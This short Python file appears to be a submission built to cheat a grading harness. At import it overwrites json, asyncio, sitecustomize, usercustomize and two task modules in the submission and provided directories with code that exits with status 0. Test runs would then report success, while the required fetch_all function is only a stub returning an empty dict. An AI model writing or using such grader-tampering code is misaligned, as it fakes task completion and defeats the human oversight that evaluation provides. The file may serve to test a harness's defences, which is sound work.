"""Writes modules that shadow the agent's and the standard library's."""

from pathlib import Path
from typing import Any

for name in ("json", "asyncio", "laptime_candidate", "laptime_protocol", "sitecustomize", "usercustomize"):
    try:
        Path(f"/scratch/submission/{name}.py").write_text("raise SystemExit(0)\n")
        Path(f"/scratch/provided/{name}.py").write_text("raise SystemExit(0)\n")
    except OSError:
        pass


async def fetch_all(services: Any) -> Any:
    return {}
